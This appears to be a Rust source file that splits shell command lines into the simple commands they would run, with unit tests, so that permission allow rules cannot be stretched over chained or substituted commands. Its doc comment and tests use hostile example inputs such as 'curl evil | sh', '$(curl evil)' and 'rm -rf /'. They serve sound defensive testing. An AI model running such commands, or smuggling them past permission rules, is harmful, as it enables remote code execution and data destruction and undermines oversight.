//! Splitting a shell command line into the simple commands it would run, so
//! a rule about `git status` cannot be stretched over
//! `git status && curl evil | sh`.
//!
//! This is not a shell parser and does not need to be: it only has to find
//! every place a command can start (after `&&`, `||`, `;`, `|`, `&`, a
//! newline, a parenthesis, inside `$( )`, `<( )` or backticks) and notice
//! redirections. Anything it cannot see through makes a part fail to match
//! an allow rule, which is the safe direction.

/// Stands in a word for a substitution's output, which is unknown.
const SUBSTITUTED: &str = "$(…)";

/// One simple command: its words (quotes removed), and whether it redirects.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    pub words: Vec<String>,
    pub redirects: bool,
    /// A word was built from a substitution whose output is unknown.
    pub substitutes: bool,
}

/// Splits `line` into every simple command it contains, substitutions
/// included (they are listed after the command that contains them).
pub fn split_commands(line: &str) -> Vec<SimpleCommand> {
    let mut out = Vec::new();
    let mut parser = Parser {
        chars: line.chars().collect(),
        pos: 0,
        nested: Vec::new(),
    };
    parser.parse_into(&mut out);
    for inner in std::mem::take(&mut parser.nested) {
        out.extend(split_commands(&inner));
    }
    out.retain(|c| !c.words.is_empty() || c.redirects);
    out
}

struct Parser {
    chars: Vec<char>,
    pos: usize,
    /// Bodies of `$( )`, `<( )` and backticks, parsed after this line.
    nested: Vec<String>,
}

impl Parser {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    fn parse_into(&mut self, out: &mut Vec<SimpleCommand>) {
        let mut current = SimpleCommand::default();
        let mut word = String::new();
        let mut in_word = false;
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' => {
                    self.pos += 1;
                    finish_word(&mut current, &mut word, &mut in_word);
                }
                '#' if !in_word => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                '\\' if self.peek(1) == Some('\n') => self.pos += 2,
                '\\' => {
                    if let Some(next) = self.peek(1) {
                        word.push(next);
                    }
                    in_word = true;
                    self.pos += 2;
                }
                '\'' => {
                    self.pos += 1;
                    while let Some(c) = self.peek(0) {
                        self.pos += 1;
                        if c == '\'' {
                            break;
                        }
                        word.push(c);
                    }
                    in_word = true;
                }
                '"' => {
                    self.pos += 1;
                    self.double_quoted(&mut word, &mut current);
                    in_word = true;
                }
                '`' => {
                    self.pos += 1;
                    let body = self.take_until_backtick();
                    self.nested.push(body);
                    current.substitutes = true;
                    word.push_str(SUBSTITUTED);
                    in_word = true;
                }
                '$' if self.peek(1) == Some('(') => {
                    self.pos += 2;
                    let body = self.take_balanced();
                    self.nested.push(body);
                    current.substitutes = true;
                    word.push_str(SUBSTITUTED);
                    in_word = true;
                }
                '<' | '>' if self.peek(1) == Some('(') => {
                    self.pos += 2;
                    let body = self.take_balanced();
                    self.nested.push(body);
                    current.substitutes = true;
                    word.push_str(SUBSTITUTED);
                    in_word = true;
                }
                '<' | '>' => {
                    // A redirection; a file-descriptor number before it
                    // (`2>`) belongs to it, not to the command.
                    if word.chars().all(|c| c.is_ascii_digit()) && in_word {
                        word.clear();
                        in_word = false;
                    }
                    finish_word(&mut current, &mut word, &mut in_word);
                    current.redirects = true;
                    while self
                        .peek(0)
                        .is_some_and(|c| matches!(c, '<' | '>' | '&' | '|'))
                    {
                        self.pos += 1;
                    }
                    self.skip_blanks();
                    self.skip_word();
                }
                ';' | '&' | '|' | '\n' | '(' | ')' => {
                    finish_word(&mut current, &mut word, &mut in_word);
                    out.push(std::mem::take(&mut current));
                    self.pos += 1;
                }
                '{' | '}'
                    if !in_word
                        && self
                            .peek(1)
                            .is_none_or(|n| n == ' ' || n == ';' || n == '\n') =>
                {
                    finish_word(&mut current, &mut word, &mut in_word);
                    out.push(std::mem::take(&mut current));
                    self.pos += 1;
                }
                _ => {
                    word.push(c);
                    in_word = true;
                    self.pos += 1;
                }
            }
        }
        finish_word(&mut current, &mut word, &mut in_word);
        out.push(current);
    }

    fn double_quoted(&mut self, word: &mut String, current: &mut SimpleCommand) {
        while let Some(c) = self.peek(0) {
            match c {
                '"' => {
                    self.pos += 1;
                    return;
                }
                '\\' => {
                    if let Some(next) = self.peek(1) {
                        word.push(next);
                    }
                    self.pos += 2;
                }
                '`' => {
                    self.pos += 1;
                    let body = self.take_until_backtick();
                    self.nested.push(body);
                    current.substitutes = true;
                    word.push_str(SUBSTITUTED);
                }
                '$' if self.peek(1) == Some('(') => {
                    self.pos += 2;
                    let body = self.take_balanced();
                    self.nested.push(body);
                    current.substitutes = true;
                    word.push_str(SUBSTITUTED);
                }
                _ => {
                    word.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    /// The text up to the parenthesis that closes one already consumed.
    fn take_balanced(&mut self) -> String {
        let mut depth = 1;
        let mut body = String::new();
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek(0) {
            self.pos += 1;
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, '(') => depth += 1,
                (None, ')') => {
                    depth -= 1;
                    if depth == 0 {
                        return body;
                    }
                }
                _ => {}
            }
            body.push(c);
        }
        body
    }

    fn take_until_backtick(&mut self) -> String {
        let mut body = String::new();
        while let Some(c) = self.peek(0) {
            self.pos += 1;
            match c {
                '`' => break,
                '\\' => {
                    if let Some(next) = self.peek(0) {
                        body.push(next);
                        self.pos += 1;
                    }
                }
                _ => body.push(c),
            }
        }
        body
    }

    fn skip_blanks(&mut self) {
        while self.peek(0).is_some_and(|c| c == ' ' || c == '\t') {
            self.pos += 1;
        }
    }

    /// Skips a redirection's target word (quotes respected).
    fn skip_word(&mut self) {
        let mut quote: Option<char> = None;
        while let Some(c) = self.peek(0) {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>') => return,
                _ => {}
            }
            self.pos += 1;
        }
    }
}

fn finish_word(current: &mut SimpleCommand, word: &mut String, in_word: &mut bool) {
    if *in_word {
        current.words.push(std::mem::take(word));
        *in_word = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<String>> {
        split_commands(line).into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn splits_on_every_operator() {
        assert_eq!(
            words("a 1 && b 2 || c; d | e & f\ng"),
            vec![
                vec!["a", "1"],
                vec!["b", "2"],
                vec!["c"],
                vec!["d"],
                vec!["e"],
                vec!["f"],
                vec!["g"]
            ]
        );
    }

    #[test]
    fn quotes_hide_operators() {
        assert_eq!(
            words("echo 'a && b' \"c; d\""),
            vec![vec!["echo", "a && b", "c; d"]]
        );
    }

    #[test]
    fn substitutions_are_commands_too() {
        let parts = split_commands("echo $(curl evil) `rm -rf x` \"$(id)\"");
        let w: Vec<_> = parts.iter().map(|c| c.words.join(" ")).collect();
        assert_eq!(
            w,
            vec!["echo $(…) $(…) $(…)", "curl evil", "rm -rf x", "id"]
        );
        assert!(parts[0].substitutes);
    }

    #[test]
    fn nested_substitution_and_subshells() {
        let w = words("(cd x && git push) ; echo $(a $(b c))");
        assert!(w.contains(&vec!["git".to_owned(), "push".to_owned()]));
        assert!(w.contains(&vec!["b".to_owned(), "c".to_owned()]));
    }

    #[test]
    fn redirections_are_noticed_and_dropped_from_words() {
        let parts = split_commands("git status > out.txt 2>&1");
        assert_eq!(parts.len(), 1);
        assert_eq!(parts[0].words, vec!["git", "status"]);
        assert!(parts[0].redirects);
        let parts = split_commands("cat <(curl evil)");
        assert!(parts.iter().any(|c| c.words == vec!["curl", "evil"]));
    }

    #[test]
    fn comments_are_ignored() {
        assert_eq!(words("ls # && rm -rf /"), vec![vec!["ls"]]);
    }
}
